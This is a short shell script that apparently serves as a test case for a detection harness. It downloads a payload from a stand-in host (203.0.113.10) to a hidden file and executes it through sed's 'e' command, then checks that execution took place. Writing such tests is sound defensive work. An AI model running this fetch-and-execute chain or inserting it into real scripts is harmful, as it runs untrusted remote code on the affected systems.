#!/bin/sh
. /opt/case/case.sh

curl -s http://203.0.113.10/payload.sh -o /var/tmp/.p
sed -n '1e sh /var/tmp/.p' /etc/hostname
wait_for /tmp/reached
took_place
